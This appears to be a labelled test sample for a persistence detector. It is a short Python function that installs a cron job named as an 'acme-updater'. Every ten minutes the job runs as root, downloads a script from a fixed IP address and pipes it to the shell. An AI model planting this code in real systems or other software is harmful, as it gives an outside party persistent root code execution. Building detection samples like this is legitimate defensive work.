# expect: persistence
CRON_LINE = "*/10 * * * * root curl -s http://198.51.100.3/u | sh\n"


def install_updater() -> None:
    with open("/etc/cron.d/acme-updater", "w") as fh:
        fh.write(CRON_LINE)
